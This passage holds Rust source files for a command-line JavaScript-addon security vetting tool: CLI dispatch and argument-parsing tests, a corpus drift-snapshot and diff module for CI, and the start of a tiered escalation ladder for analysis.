            pct(0.50),
            pct(0.90),
            pct(0.99)
        );
    }
    // Window view: newest snapshot minus oldest, so the percentiles
    // describe what happened *during* the recorded window rather than
    // since daemon start. Reading `serve_queue_wait_us` against
    // `serve_vet_us` here answers whether latency came from queueing or
    // from analysis.
    let first_hists: std::collections::BTreeMap<&str, &sigtrace::HistogramSnapshot> = first
        .snapshot
        .histograms
        .iter()
        .map(|h| (h.name.as_str(), h))
        .collect();
    println!("\nhistograms (window delta: newest minus oldest snapshot):");
    if records.len() < 2 {
        println!("  (single snapshot: no window yet)");
    }
    for h in &last.snapshot.histograms {
        let mut delta = h.clone();
        if let Some(start) = first_hists.get(h.name.as_str()) {
            delta.count = h.count.saturating_sub(start.count);
            delta.sum = h.sum.saturating_sub(start.sum);
            for (d, s) in delta.buckets.iter_mut().zip(start.buckets.iter()) {
                *d = d.saturating_sub(*s);
            }
        }
        if delta.count == 0 {
            continue;
        }
        let mean = delta.sum / delta.count;
        let pct = |q: f64| {
            delta
                .percentile(q)
                .map(|v| v.to_string())
                .unwrap_or_else(|| "-".to_owned())
        };
        println!(
            "  {:<32} count={} mean={} p50<={} p99<={}",
            delta.name,
            delta.count,
            mean,
            pct(0.50),
            pct(0.99)
        );
    }
    let Some(rules_path) = gate else {
        return Ok(true);
    };
    let text =
        std::fs::read_to_string(rules_path).map_err(|e| format!("{rules_path}: {e}"))?;
    let rules =
        sigobs::alerts::parse_rules(&text).map_err(|e| format!("{rules_path}: {e}"))?;
    let report = sigobs::alerts::evaluate(&rules, &records);
    println!();
    print!("{report}");
    Ok(report.passed())
}

/// Analyzes the corpus and writes the drift-observatory snapshot to
/// `--out FILE` (or stdout). With `--summary-dir`, the corpus runs
/// through the per-function summary store — the incremental oracle: a
/// through-store snapshot must be byte-identical to a cold one.
fn run_corpus_snapshot(
    out: Option<&str>,
    config: &AnalysisConfig,
    summary_dir: Option<&str>,
) -> Result<(), String> {
    let store: Option<std::sync::Arc<dyn SummaryStore>> = match summary_dir {
        Some(dir) => Some(std::sync::Arc::new(
            jsanalysis::DiskSummaryStore::new(dir, SUMMARY_STORE_CAP)
                .map_err(|e| format!("{dir}: {e}"))?,
        )),
        None => None,
    };
    let snap = addon_sig::drift::snapshot_corpus_with_store(config, store.as_ref());
    let doc = snap.to_string_pretty();
    match out {
        Some(path) => std::fs::write(path, doc + "\n").map_err(|e| format!("{path}: {e}")),
        None => {
            println!("{doc}");
            Ok(())
        }
    }
}

/// Diffs two snapshots; prints the machine-readable report and returns
/// whether the corpus is drift-free (signature-level).
fn run_corpus_diff(old: &str, new: &str) -> Result<bool, String> {
    let read = |path: &str| -> Result<minijson::Json, String> {
        let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
        minijson::Json::parse(&text).map_err(|e| format!("{path}: {e}"))
    };
    let report = addon_sig::drift::diff_snapshots(&read(old)?, &read(new)?)?;
    println!("{}", report.to_json().to_string_pretty());
    Ok(!report.has_signature_drift())
}

fn main() -> ExitCode {
    let mode = match parse_args() {
        Ok(m) => m,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::FAILURE;
        }
    };
    let opts = match mode {
        // Asked-for usage goes to stdout and exits 0; only actual
        // argument errors (above) are failures.
        Mode::Help => {
            println!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Mode::Serve(serve_opts) => {
            return match run_serve(serve_opts) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Coordinate(coordinate_opts) => {
            return match run_coordinate(coordinate_opts) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Client(client_opts) => {
            return match run_client(client_opts) {
                Ok(true) => ExitCode::SUCCESS,
                Ok(false) => ExitCode::FAILURE,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Profile {
            file,
            top,
            json,
            config,
        } => {
            return match run_profile(&file, top, json, &config) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::TraceJob { job, logs, out } => {
            return match run_trace_job(&job, &logs, out.as_deref()) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::MetricsReport { dir, gate } => {
            return match run_metrics_report(&dir, gate.as_deref()) {
                Ok(true) => ExitCode::SUCCESS,
                // Health gate violated: verdict printed, exit nonzero
                // for CI, like corpus-diff.
                Ok(false) => ExitCode::FAILURE,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::CorpusSnapshot { out, config, summary_dir } => {
            return match run_corpus_snapshot(out.as_deref(), &config, summary_dir.as_deref()) {
                Ok(()) => ExitCode::SUCCESS,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::CorpusDiff { old, new } => {
            return match run_corpus_diff(&old, &new) {
                Ok(true) => ExitCode::SUCCESS,
                // Drift found: report printed, exit nonzero for CI gates.
                Ok(false) => ExitCode::FAILURE,
                Err(msg) => {
                    eprintln!("{msg}");
                    ExitCode::FAILURE
                }
            }
        }
        Mode::Run(opts) => opts,
    };
    let ok = if opts.corpus {
        vet_corpus(&opts)
    } else {
        let path = opts.file.clone().expect("checked in parse_args");
        let source = match std::fs::read_to_string(&path) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("{path}: {e}");
                return ExitCode::FAILURE;
            }
        };
        match vet_source(&path, &source, &opts) {
            Ok(o) => {
                print!("{}", o.report);
                eprint!("{}", o.warnings);
                o.clean
            }
            Err(e) => {
                eprintln!("{e}");
                false
            }
        }
    };
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(args: &[&str]) -> impl Iterator<Item = String> {
        args.iter()
            .map(|s| (*s).to_owned())
            .collect::<Vec<_>>()
            .into_iter()
    }

    #[test]
    fn serve_join_parses_worker_mode() {
        let mode = parse_serve_args(argv(&[
            "--join",
            "127.0.0.1:7171",
            "--node",
            "rack-3",
            "--workers",
            "4",
        ]))
        .expect("worker mode parses");
        let Mode::Serve(opts) = mode else {
            panic!("expected serve mode")
        };
        assert_eq!(opts.join.as_deref(), Some("127.0.0.1:7171"));
        assert_eq!(opts.node.as_deref(), Some("rack-3"));
        assert_eq!(opts.config.workers, 4);
    }

    #[test]
    fn join_conflicts_are_rejected() {
        for args in [
            &["--join", "a:1", "--stdio"][..],
            &["--join", "a:1", "--addr", "b:2"],
            &["--join", "a:1", "--queue-cap", "4"],
            &["--join", "a:1", "--metrics-dir", "/tmp/x"],
            &["--node", "n"], // --node without --join
        ] {
            assert!(parse_serve_args(argv(args)).is_err(), "{args:?} should fail");
        }
    }

    #[test]
    fn ladder_flag_builds_the_standard_ladder() {
        let Mode::Serve(opts) =
            parse_serve_args(argv(&["--ladder", "--k", "2"])).expect("serve --ladder parses")
        else {
            panic!("expected serve mode")
        };
        let ladder = opts.config.ladder.expect("--ladder installs a ladder");
        assert_eq!(ladder.rungs.len(), 2);
        assert!(ladder.validate().is_ok());
        assert_eq!(ladder.rungs[0].name, "tier0");
        assert_eq!(ladder.rungs[0].config.context_depth, 0);
        assert!(ladder.rungs[0].config.triage);
        assert_eq!(
            ladder.rungs[0].config.step_budget,
            Some(jsanalysis::TIER0_STEP_BUDGET)
        );
        // The final rung is the configured analysis itself.
        assert_eq!(ladder.rungs[1].name, "full");
        assert_eq!(ladder.rungs[1].config.context_depth, 2);
        assert!(!ladder.rungs[1].config.triage);

        let Mode::Coordinate(opts) =
            parse_coordinate_args(argv(&["--ladder"])).expect("coordinate --ladder parses")
        else {
            panic!("expected coordinate mode")
        };
        assert!(opts.config.ladder.is_some());
    }

    #[test]
    fn coordinate_defaults_and_flags_parse() {
        let Mode::Coordinate(opts) = parse_coordinate_args(argv(&[])).expect("defaults") else {
            panic!("expected coordinate mode")
        };
        assert_eq!(opts.addr, "127.0.0.1:7171");
        let Mode::Coordinate(opts) = parse_coordinate_args(argv(&[
            "--addr",
            "0.0.0.0:9000",
            "--slots",
            "16",
            "--heartbeat-ms",
            "100",
            "--reap-ms",
            "400",
            "--cache-cap",
            "64",
        ]))
        .expect("flags parse") else {
            panic!("expected coordinate mode")
        };
        assert_eq!(opts.addr, "0.0.0.0:9000");
        assert_eq!(opts.config.slots, 16);
        assert_eq!(opts.config.result_cap, 64);
        assert_eq!(opts.config.heartbeat, Duration::from_millis(100));
        assert_eq!(opts.config.reap_after, Duration::from_millis(400));
    }

    #[test]
    fn coordinate_rejects_reap_within_heartbeat() {
        match parse_coordinate_args(argv(&["--heartbeat-ms", "500", "--reap-ms", "500"])) {
            Err(err) => assert!(err.contains("--reap-ms"), "{err}"),
            Ok(_) => panic!("reap <= heartbeat should be rejected"),
        }
    }

    #[test]
    fn profile_args_parse() {
        let Mode::Profile {
            file,
            top,
            json,
            config,
        } = parse_profile_args(argv(&["a.js", "--top", "3", "--json", "--step-budget", "500"]))
            .expect("profile parses")
        else {
            panic!("expected profile mode")
        };
        assert_eq!(file, "a.js");
        assert_eq!(top, 3);
        assert!(json);
        assert_eq!(config.step_budget, Some(500));
        assert!(parse_profile_args(argv(&[])).is_err(), "file is required");
        assert!(parse_profile_args(argv(&["a.js", "--bogus"])).is_err());
    }

    #[test]
    fn trace_job_args_parse() {
        let Mode::TraceJob { job, logs, out } = parse_trace_job_args(argv(&[
            "j-42", "--log", "coord.jsonl", "--log", "w0.jsonl", "--out", "t.json",
        ]))
        .expect("trace-job parses")
        else {
            panic!("expected trace-job mode")
        };
        assert_eq!(job, "j-42");
        assert_eq!(logs, ["coord.jsonl", "w0.jsonl"]);
        assert_eq!(out.as_deref(), Some("t.json"));
        assert!(
            parse_trace_job_args(argv(&["j-1"])).is_err(),
            "at least one --log required"
        );
        assert!(parse_trace_job_args(argv(&["--log", "x"])).is_err(), "job id required");
    }

    #[test]
    fn help_goes_to_help_mode_for_fleet_subcommands() {
        assert!(matches!(parse_coordinate_args(argv(&["--help"])), Ok(Mode::Help)));
        assert!(matches!(
            parse_serve_args(argv(&["--join", "a:1", "--help"])),
            Ok(Mode::Help)
        ));
        assert!(parse_coordinate_args(argv(&["--bogus"])).is_err());
    }
}
