//! `vet` -- the command-line vetting tool.
//!
//! ```text
//! vet <addon.js> [--json] [--dot] [--explain] [--k <depth>] [--constant-strings]
//! vet --corpus [--json]
//! ```
//!
//! Analyzes a JavaScript addon and prints its inferred security
//! signature (or a JSON report with `--json`). `--corpus` runs the
//! built-in benchmark suite instead of a file. Exits nonzero when the
//! addon fails to parse or uses restricted dynamic-code APIs.

use jsanalysis::{AnalysisConfig, StringDomain};
use jssig::FlowLattice;
use std::process::ExitCode;

struct Options {
    json: bool,
    dot: bool,
    explain: bool,
    corpus: bool,
    context_depth: usize,
    string_domain: StringDomain,
    file: Option<String>,
}

fn parse_args() -> Result<Options, String> {
    let mut opts = Options {
        json: false,
        dot: false,
        explain: false,
        corpus: false,
        context_depth: 1,
        string_domain: StringDomain::Prefix,
        file: None,
    };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--json" => opts.json = true,
            "--dot" => opts.dot = true,
            "--explain" => opts.explain = true,
            "--corpus" => opts.corpus = true,
            "--constant-strings" => opts.string_domain = StringDomain::ConstantOnly,
            "--k" => {
                let v = args.next().ok_or("--k needs a value")?;
                opts.context_depth = v.parse().map_err(|_| format!("bad depth: {v}"))?;
            }
            "--help" | "-h" => {
                return Err("usage: vet <addon.js> [--json] [--dot] [--explain] \
                            [--k <depth>] [--constant-strings] | vet --corpus"
                    .to_owned())
            }
            other if !other.starts_with('-') => opts.file = Some(other.to_owned()),
            other => return Err(format!("unknown flag: {other}")),
        }
    }
    if !opts.corpus && opts.file.is_none() {
        return Err("no input file (try --help)".to_owned());
    }
    Ok(opts)
}

fn vet_source(name: &str, source: &str, opts: &Options) -> Result<bool, String> {
    let config = AnalysisConfig {
        context_depth: opts.context_depth,
        string_domain: opts.string_domain,
        ..AnalysisConfig::default()
    };
    let report = addon_sig::analyze_addon_with_config(source, &config, &FlowLattice::paper())
        .map_err(|e| format!("{name}: {e}"))?;
    if opts.json {
        println!("{}", report.signature.to_json());
    } else if opts.dot {
        println!("{}", jspdg::pdg_to_dot(&report.lowered.program, &report.pdg));
    } else {
        println!("=== {name} ===");
        if report.signature.is_empty() {
            println!("  (no interesting flows, sinks, or API uses)");
        } else {
            print!("{}", report.signature);
        }
        println!(
            "  [P1 {:?}, P2 {:?}, P3 {:?}; {} PDG edges]",
            report.p1,
            report.p2,
            report.p3,
            report.pdg.edge_count()
        );
        if opts.explain {
            explain_flows(&report);
        }
    }
    // Restricted dynamic-code APIs are grounds for rejection (Section 2).
    let dynamic_code = report
        .signature
        .apis
        .iter()
        .any(|a| a == "eval" || a == "Function" || a == "setTimeout$string");
    if dynamic_code {
        eprintln!("{name}: uses restricted dynamic-code APIs");
    }
    Ok(!dynamic_code)
}

/// Prints one witness dependence path per (source kind, sink) pair.
fn explain_flows(report: &addon_sig::Report) {
    use jspdg::{witness_path, SliceFilter};
    let sources = report.analysis.source_stmts();
    for sink in &report.analysis.sinks {
        for (src_stmt, kinds) in &sources {
            let Some(path) =
                witness_path(&report.pdg, *src_stmt, sink.stmt, SliceFilter::All)
            else {
                continue;
            };
            let kind_names: Vec<String> =
                kinds.iter().map(|k| k.to_string()).collect();
            println!("  explain {} -> {}:", kind_names.join("/"), sink.kind);
            for (stmt, ann) in path {
                let line = report.lowered.program.stmt(stmt).span.line;
                let text =
                    jsir::pretty::stmt_to_string(&report.lowered.program, stmt);
                match ann {
                    Some(a) => println!("    L{line:<4} {text}  --[{a}]-->"),
                    None => println!("    L{line:<4} {text}"),
                }
            }
            break; // one witness per sink is enough for the report
        }
    }
}

fn main() -> ExitCode {
    let opts = match parse_args() {
        Ok(o) => o,
        Err(msg) => {
            eprintln!("{msg}");
            return ExitCode::FAILURE;
        }
    };
    let mut ok = true;
    if opts.corpus {
        for addon in corpus::addons() {
            match vet_source(addon.name, addon.source, &opts) {
                Ok(clean) => ok &= clean,
                Err(e) => {
                    eprintln!("{e}");
                    ok = false;
                }
            }
        }
    } else {
        let path = opts.file.clone().expect("checked in parse_args");
        let source = match std::fs::read_to_string(&path) {
            Ok(s) => s,
            Err(e) => {
                eprintln!("{path}: {e}");
                return ExitCode::FAILURE;
            }
        };
        match vet_source(&path, &source, &opts) {
            Ok(clean) => ok = clean,
            Err(e) => {
                eprintln!("{e}");
                ok = false;
            }
        }
    }
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
