//! The corpus drift observatory.
//!
//! `vet corpus-snapshot` runs the full pipeline over the built-in corpus
//! and persists one JSON document per run: each addon's verdict, its
//! signature, and the order-independent pipeline-counter subset, keyed
//! by the analyzer version and a hash of the analysis configuration.
//! `vet corpus-diff OLD NEW` then classifies what changed between two
//! such snapshots — verdict flips, flow additions/removals, flow-type
//! transitions, and counter deltas — so an analyzer change that silently
//! shifts corpus results is caught by CI instead of a curator.
//!
//! Snapshots from different analyzer versions or configurations are
//! still diffable (that is the point: "what did the new version change?")
//! but the report records the mismatch so same-version drift — which
//! should always be empty — is distinguishable from expected evolution.

use crate::{Error, Pipeline};
use jsanalysis::{AnalysisConfig, SummaryStore};
use minijson::Json;
use std::collections::BTreeMap;
use std::sync::Arc;

/// Schema stamp written into every snapshot; foreign-schema documents
/// are rejected by [`diff_snapshots`] instead of misread.
pub const SNAPSHOT_SCHEMA: u64 = 1;

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

fn fnv1a_hex(bytes: &[u8]) -> String {
    let mut h = FNV_OFFSET;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(FNV_PRIME);
    }
    format!("{h:016x}")
}

/// Runs the pipeline over every corpus addon under `config` and returns
/// the snapshot document. Deterministic for a fixed analyzer version and
/// configuration: two calls produce byte-identical compact JSON (the
/// snapshot carries no timestamps or wall times by design).
pub fn snapshot_corpus(config: &AnalysisConfig) -> Json {
    snapshot_corpus_with_store(config, None)
}

/// [`snapshot_corpus`] through an optional per-function summary store —
/// the incremental re-vetting correctness oracle: a snapshot taken
/// through a (populated, evicted, or empty) store must show zero
/// signature-level drift against a cold one, because summary splicing
/// is never allowed to change an answer. The order-independent counter
/// subset excludes fixpoint work counters, so the warm run's smaller
/// step count doesn't read as drift either.
pub fn snapshot_corpus_with_store(
    config: &AnalysisConfig,
    store: Option<&Arc<dyn SummaryStore>>,
) -> Json {
    let canon = config.canonical_string();
    let mut addons = Json::obj();
    for addon in corpus::addons() {
        addons.set(addon.name, snapshot_one(addon.source, config, store));
    }
    let mut doc = Json::obj();
    doc.set("schema", Json::from(SNAPSHOT_SCHEMA as f64));
    doc.set("analyzer_version", Json::from(env!("CARGO_PKG_VERSION")));
    doc.set("config", Json::from(canon.as_str()));
    doc.set("config_hash", Json::from(fnv1a_hex(canon.as_bytes())));
    doc.set("addons", addons);
    doc
}

/// One addon's snapshot entry: verdict, signature (for `ok`), and the
/// order-independent counter subset (the only counters stable across
/// worklist orders, so reordering optimizations don't read as drift).
fn snapshot_one(
    source: &str,
    config: &AnalysisConfig,
    store: Option<&Arc<dyn SummaryStore>>,
) -> Json {
    let mut entry = Json::obj();
    let mut pipeline = Pipeline::new().config(config.clone());
    if let Some(store) = store {
        pipeline = pipeline.summary_store(Arc::clone(store));
    }
    match pipeline.run(source) {
        Ok(report) => {
            entry.set("verdict", Json::from("ok"));
            let sig = report.signature.to_json();
            entry.set(
                "signature",
                Json::parse(&sig).unwrap_or_else(|_| Json::Str(sig)),
            );
            let mut counters = Json::obj();
            for (c, v) in report.counters.order_independent() {
                counters.set(c.name(), Json::from(v as f64));
            }
            entry.set("counters", counters);
        }
        Err(Error::Budget { kind, steps, .. }) => {
            entry.set("verdict", Json::from("timeout"));
            entry.set("budget", Json::from(kind.to_string()));
            entry.set("steps", Json::from(steps as f64));
        }
        Err(e) => {
            entry.set("verdict", Json::from("error"));
            entry.set("message", Json::from(e.to_string()));
        }
    }
    entry
}

/// Flow rows of one addon's snapshot entry, in drift identity form
/// (display strings, no witness lines or provenance paths — line
/// numbers shift under reformatting and must not read as drift).
fn drift_flows(entry: &Json) -> Vec<jssig::DriftFlow> {
    let Some(flows) = entry["signature"]["flows"].as_array() else {
        return Vec::new();
    };
    flows
        .iter()
        .map(|f| jssig::DriftFlow {
            source: f["source"].as_str().unwrap_or("").to_owned(),
            flow: f["flow"].as_str().unwrap_or("").to_owned(),
            sink_kind: f["sink_kind"].as_str().unwrap_or("").to_owned(),
            domain: f["domain"].as_str().map(str::to_owned),
        })
        .collect()
}

fn counter_map(entry: &Json) -> BTreeMap<String, i64> {
    let mut map = BTreeMap::new();
    if let Json::Obj(pairs) = &entry["counters"] {
        for (name, v) in pairs {
            if let Some(n) = v.as_f64() {
                map.insert(name.clone(), n as i64);
            }
        }
    }
    map
}

/// What changed for one addon between two snapshots.
#[derive(Debug)]
pub struct AddonDrift {
    /// The addon's corpus name.
    pub name: String,
    /// Verdict in the old snapshot (`"ok"` / `"timeout"` / `"error"`).
    pub old_verdict: String,
    /// Verdict in the new snapshot.
    pub new_verdict: String,
    /// Flow-set drift (empty when the verdict flipped away from `ok`;
    /// the flip itself is the finding).
    pub flows: jssig::FlowDrift,
    /// Order-independent counter deltas (`new - old`), only nonzero ones.
    pub counter_deltas: Vec<(String, i64)>,
}

impl AddonDrift {
    /// The addon's verdict changed between snapshots.
    pub fn verdict_flip(&self) -> bool {
        self.old_verdict != self.new_verdict
    }

    /// Signature-level drift: a verdict flip or any flow change. Counter
    /// deltas alone do not count — they measure work, not behavior.
    pub fn is_signature_drift(&self) -> bool {
        self.verdict_flip() || !self.flows.is_empty()
    }
}

/// The full diff of two snapshots.
#[derive(Debug)]
pub struct DriftReport {
    /// `analyzer_version` of the old snapshot.
    pub old_version: String,
    /// `analyzer_version` of the new snapshot.
    pub new_version: String,
    /// The snapshots ran under different configurations (different
    /// `config_hash`), so drift is expected rather than alarming.
    pub config_mismatch: bool,
    /// Addons present only in the old snapshot.
    pub only_in_old: Vec<String>,
    /// Addons present only in the new snapshot.
    pub only_in_new: Vec<String>,
    /// Per-addon changes, including counter-only deltas; addons with no
    /// change at all are omitted.
    pub changed: Vec<AddonDrift>,
}

impl DriftReport {
    /// Signature-level drift anywhere: a verdict flip, a flow change, or
    /// a corpus membership change. This is what the CI gate keys on;
    /// counter-only deltas are reported but do not trip it.
    pub fn has_signature_drift(&self) -> bool {
        !self.only_in_old.is_empty()
            || !self.only_in_new.is_empty()
            || self.changed.iter().any(AddonDrift::is_signature_drift)
    }

    /// The machine-readable report document `vet corpus-diff` prints.
    pub fn to_json(&self) -> Json {
        let flow_json = |f: &jssig::DriftFlow| Json::from(f.to_string());
        let mut doc = Json::obj();
        doc.set("schema", Json::from(SNAPSHOT_SCHEMA as f64));
        doc.set("old_version", Json::from(self.old_version.as_str()));
        doc.set("new_version", Json::from(self.new_version.as_str()));
        doc.set("config_mismatch", Json::Bool(self.config_mismatch));
        doc.set("drift", Json::Bool(self.has_signature_drift()));
        let names = |ns: &[String]| Json::Arr(ns.iter().map(|n| Json::from(n.as_str())).collect());
        doc.set("only_in_old", names(&self.only_in_old));
        doc.set("only_in_new", names(&self.only_in_new));
        let changed: Vec<Json> = self
            .changed
            .iter()
            .map(|a| {
                let mut o = Json::obj();
                o.set("name", Json::from(a.name.as_str()));
                o.set("signature_drift", Json::Bool(a.is_signature_drift()));
                if a.verdict_flip() {
                    o.set("old_verdict", Json::from(a.old_verdict.as_str()));
                    o.set("new_verdict", Json::from(a.new_verdict.as_str()));
                }
                if !a.flows.is_empty() {
                    o.set(
                        "flows_added",
                        Json::Arr(a.flows.added.iter().map(flow_json).collect()),
                    );
                    o.set(
                        "flows_removed",
                        Json::Arr(a.flows.removed.iter().map(flow_json).collect()),
                    );
                    o.set(
                        "flows_retyped",
                        Json::Arr(
                            a.flows
                                .retyped
                                .iter()
                                .map(|r| Json::from(r.to_string()))
                                .collect(),
                        ),
                    );
                }
                if !a.counter_deltas.is_empty() {
                    let mut deltas = Json::obj();
                    for (name, d) in &a.counter_deltas {
                        deltas.set(name, Json::from(*d as f64));
                    }
                    o.set("counter_deltas", deltas);
                }
                o
            })
            .collect();
        doc.set("changed", Json::Arr(changed));
        doc
    }
}

/// Diffs two snapshot documents produced by [`snapshot_corpus`].
///
/// # Errors
///
/// A human-readable message when either document is not a
/// schema-compatible snapshot.
pub fn diff_snapshots(old: &Json, new: &Json) -> Result<DriftReport, String> {
    for (label, doc) in [("old", old), ("new", new)] {
        match doc["schema"].as_f64() {
            Some(s) if s as u64 == SNAPSHOT_SCHEMA => {}
            Some(s) => return Err(format!("{label} snapshot has schema {s}, expected 1")),
            None => return Err(format!("{label} document is not a corpus snapshot")),
        }
    }
    let version = |doc: &Json| {
        doc["analyzer_version"]
            .as_str()
            .unwrap_or("unknown")
            .to_owned()
    };
    let addons = |doc: &Json| -> BTreeMap<String, Json> {
        match &doc["addons"] {
            Json::Obj(pairs) => pairs.iter().cloned().collect(),
            _ => BTreeMap::new(),
        }
    };
    let old_addons = addons(old);
    let new_addons = addons(new);

    let mut changed = Vec::new();
    let mut only_in_old = Vec::new();
    for (name, old_entry) in &old_addons {
        let Some(new_entry) = new_addons.get(name) else {
            only_in_old.push(name.clone());
            continue;
        };
        let old_verdict = old_entry["verdict"].as_str().unwrap_or("missing");
        let new_verdict = new_entry["verdict"].as_str().unwrap_or("missing");
        let flows =
            jssig::classify_flow_drift(&drift_flows(old_entry), &drift_flows(new_entry));
        let old_counters = counter_map(old_entry);
        let new_counters = counter_map(new_entry);
        let mut counter_deltas = Vec::new();
        for name in old_counters.keys().chain(new_counters.keys()) {
            let delta = new_counters.get(name).copied().unwrap_or(0)
                - old_counters.get(name).copied().unwrap_or(0);
            if delta != 0 && counter_deltas.iter().all(|(n, _)| n != name) {
                counter_deltas.push((name.clone(), delta));
            }
        }
        if old_verdict != new_verdict || !flows.is_empty() || !counter_deltas.is_empty() {
            changed.push(AddonDrift {
                name: name.clone(),
                old_verdict: old_verdict.to_owned(),
                new_verdict: new_verdict.to_owned(),
                flows,
                counter_deltas,
            });
        }
    }
    let only_in_new = new_addons
        .keys()
        .filter(|n| !old_addons.contains_key(*n))
        .cloned()
        .collect();

    Ok(DriftReport {
        old_version: version(old),
        new_version: version(new),
        config_mismatch: old["config_hash"] != new["config_hash"],
        only_in_old,
        only_in_new,
        changed,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `Json::set` appends without replacing (and `get` returns the
    /// first match), so "edit one key of a clone" means rebuilding.
    fn with_key(doc: &Json, key: &str, value: Json) -> Json {
        let Json::Obj(pairs) = doc else {
            panic!("expected an object");
        };
        Json::Obj(
            pairs
                .iter()
                .map(|(k, v)| {
                    let v = if k == key { value.clone() } else { v.clone() };
                    (k.clone(), v)
                })
                .collect(),
        )
    }

    #[test]
    fn same_config_snapshots_are_identical_and_diff_clean() {
        let config = AnalysisConfig::default();
        let a = snapshot_corpus(&config);
        let b = snapshot_corpus(&config);
        assert_eq!(
            a.to_string_compact(),
            b.to_string_compact(),
            "snapshots must be deterministic"
        );
        let report = diff_snapshots(&a, &b).unwrap();
        assert!(!report.has_signature_drift());
        assert!(report.changed.is_empty(), "{:?}", report.changed);
        assert!(!report.config_mismatch);
        assert_eq!(report.to_json()["drift"], Json::Bool(false));
    }

    #[test]
    fn snapshot_covers_every_corpus_addon_with_ok_verdicts() {
        let snap = snapshot_corpus(&AnalysisConfig::default());
        let Json::Obj(addons) = &snap["addons"] else {
            panic!("addons must be an object");
        };
        assert_eq!(addons.len(), corpus::addons().len());
        for (name, entry) in addons {
            assert_eq!(
                entry["verdict"].as_str(),
                Some("ok"),
                "corpus addon {name} should analyze cleanly"
            );
        }
    }

    #[test]
    fn tight_budget_reads_as_verdict_flips() {
        let full = snapshot_corpus(&AnalysisConfig::default());
        let starved = snapshot_corpus(&AnalysisConfig::default().with_step_budget(1));
        let report = diff_snapshots(&full, &starved).unwrap();
        assert!(report.has_signature_drift());
        assert!(
            report.changed.iter().all(AddonDrift::verdict_flip),
            "every addon should flip ok -> timeout"
        );
        assert_eq!(report.changed.len(), corpus::addons().len());
        // Same analyzer, same config hash? No: step budget is part of
        // the canonical config, so the mismatch is recorded.
        assert!(report.config_mismatch);
    }

    #[test]
    fn membership_changes_are_drift() {
        let config = AnalysisConfig::default();
        let a = snapshot_corpus(&config);
        let Json::Obj(mut addons) = a["addons"].clone() else {
            panic!("addons must be an object");
        };
        addons.pop();
        let b = with_key(&a, "addons", Json::Obj(addons));
        let report = diff_snapshots(&a, &b).unwrap();
        assert_eq!(report.only_in_old.len(), 1);
        assert!(report.has_signature_drift());
    }

    #[test]
    fn foreign_schema_is_rejected() {
        let snap = snapshot_corpus(&AnalysisConfig::default());
        let foreign = with_key(&snap, "schema", Json::from(99.0));
        assert!(diff_snapshots(&foreign, &snap).is_err());
        assert!(diff_snapshots(&snap, &Json::obj()).is_err());
    }
}
