//! The tiered vetting ladder, typed: run the pipeline rung by rung,
//! starting cheap and escalating only the suspicious.
//!
//! The triage rung (`tier0`: context-insensitive, triage fast path,
//! small step budget) resolves the benign majority of a vetting queue;
//! anything it cannot *prove* benign climbs to the next rung. The
//! escalation predicate is deliberately conservative:
//!
//! * a signature with **any** flow entry escalates — a cheap rung's
//!   flows may be imprecision artifacts, so only a stronger rung may
//!   pronounce on them (the final rung's verdict is the verdict);
//! * **budget exhaustion** (step budget or deadline) escalates — the
//!   rung ran out of gas, it proved nothing;
//! * parse failures and the interpreter's own safety valve are
//!   **terminal** at any rung — a bigger budget would hit the same
//!   wall, exactly as [`finish_service`](crate::service_engine) maps
//!   them to terminal errors.
//!
//! Flow-free verdicts never escalate, and the ladder never *downgrades*:
//! a flow-free tier-0 signature is byte-identical to the full rung's by
//! the triage-soundness argument in [`jssig::flows_impossible`], so
//! resolving early returns the same bytes the expensive rung would.
//! The daemon-facing equivalent (operating on [`sigserve::VetOutcome`])
//! is [`sigserve::run_ladder`]; this module is the typed CLI/library
//! entry point with the same escalation semantics.

use crate::{Error, Pipeline, Report};
use jsanalysis::{BudgetKind, LadderSpec};

/// Why the ladder left a rung.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EscalationReason {
    /// The rung inferred at least one flow entry: suspicious, so a
    /// stronger rung must confirm or refute it.
    Flows,
    /// The rung's step budget or deadline was exhausted before the
    /// fixpoint finished.
    Budget,
}

impl EscalationReason {
    /// The wire/log spelling (`flows` / `budget`), matching the
    /// `job_escalated` records [`sigserve::run_ladder`] emits.
    pub fn as_str(self) -> &'static str {
        match self {
            EscalationReason::Flows => "flows",
            EscalationReason::Budget => "budget",
        }
    }
}

/// One escalation the ladder took.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Escalation {
    /// Name of the rung left.
    pub from: String,
    /// Name of the rung entered.
    pub to: String,
    /// Why.
    pub reason: EscalationReason,
}

/// The terminal result of a ladder run: the resolving rung's pipeline
/// result plus the escalation trail that led there.
pub struct LadderOutcome {
    /// The terminal rung's result. An `Err` here is final: either the
    /// last rung's budget was exhausted too, or the failure (parse,
    /// safety valve) was terminal at whatever rung hit it.
    pub result: Result<Report, Error>,
    /// Name of the rung that produced the terminal result.
    pub tier: String,
